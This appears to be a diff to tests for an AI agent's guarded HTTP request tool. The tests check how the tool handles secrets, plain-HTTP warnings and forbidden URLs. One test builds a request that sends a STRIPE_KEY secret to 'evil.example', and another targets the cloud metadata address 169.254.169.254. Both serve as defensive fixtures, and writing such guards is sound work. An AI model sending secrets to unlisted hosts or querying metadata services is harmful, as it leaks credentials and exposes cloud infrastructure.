@@ -37,12 +37,19 @@ async function serve(answer: RequestListener) {
 const tool = createHttpRequest({
   fetch: createGuardedFetch({ system: createSystem(), allow: parseNetworkAllow('127.0.0.1'), enforceHttps: false }),
 });
-const toolContext = { conversation: 'c', direct: true, callId: 'call', taint: NO_TAINT };
+const hosts: Record<string, string[]> = {
+  STRIPE_KEY: ['api.example.org'],
+  K_1: ['a.example:80'],
+  API_KEY: ['127.0.0.1'],
+};
+const secretHosts = (name: string) => hosts[name] ?? null;
+const toolContext = { conversation: 'c', direct: true, callId: 'call', taint: NO_TAINT, secretHosts };
 const resolve = (input: unknown) => tool.resolve(tool.input.parse(input), toolContext);
 
 const KEY = ['key', '/"&', '1234567890'].join('');
 function run(input: unknown, allowed?: string) {
   const asked: { name: string; host: string | null }[] = [];
+  if (!tool.run) throw new Error('http_request does not run');
   const outcome = tool.run(tool.input.parse(input), {
     ...toolContext,
     signal: new AbortController().signal,
@@ -88,7 +95,32 @@ describe('http_request, resolved', () => {
 
   it('says when a secret would go over plain http (SECRET-5)', async () => {
     const { card } = await resolve({ method: 'POST', url: 'http://a.example/', body: 'secret:K_1' });
-    expect(card.facts).toEqual(['sends secret K_1 to a.example:80 over plain http, readable on the way']);
+    expect(card.facts).toEqual(['sends secret K_1 to a.example:80, over plain http: readable on the way']);
+  });
+
+  it('says when a host is not among those of the entry, and binds that (SECRET-5)', async () => {
+    const request = { method: 'POST', url: 'https://evil.example/', body: 'secret:STRIPE_KEY' };
+    const action = await resolve(request);
+    expect(action.card.facts).toEqual([
+      'sends secret STRIPE_KEY to evil.example:443, which is not among its hosts (api.example.org)',
+    ]);
+    const listed = await tool.resolve(tool.input.parse(request), {
+      ...toolContext,
+      secretHosts: () => ['evil.example'],
+    });
+    expect(actionDigest(listed)).not.toBe(actionDigest(action));
+  });
+
+  it('is forbidden, not asked about, where the spelling of the URL already decides (GUARD-1)', async () => {
+    expect((await resolve({ method: 'POST', url: 'http://169.254.169.254/' })).forbidden).toBe(
+      'Refused http://169.254.169.254: 169.254.169.254 is a cloud metadata service.',
+    );
+    expect((await resolve({ method: 'GET', url: 'http://127.0.0.1:1/' })).forbidden).toBeNull();
+  });
+
+  it('names a secret that does not exist before anybody is asked', async () => {
+    const request = { method: 'POST', url: 'https://a.example/', body: 'secret:NOBODY' };
+    await expect(resolve(request)).rejects.toMatchObject({ code: 'vault.missing' });
   });
 
   it('binds method, URL, headers and body: any change is another action (APPR-3)', async () => {
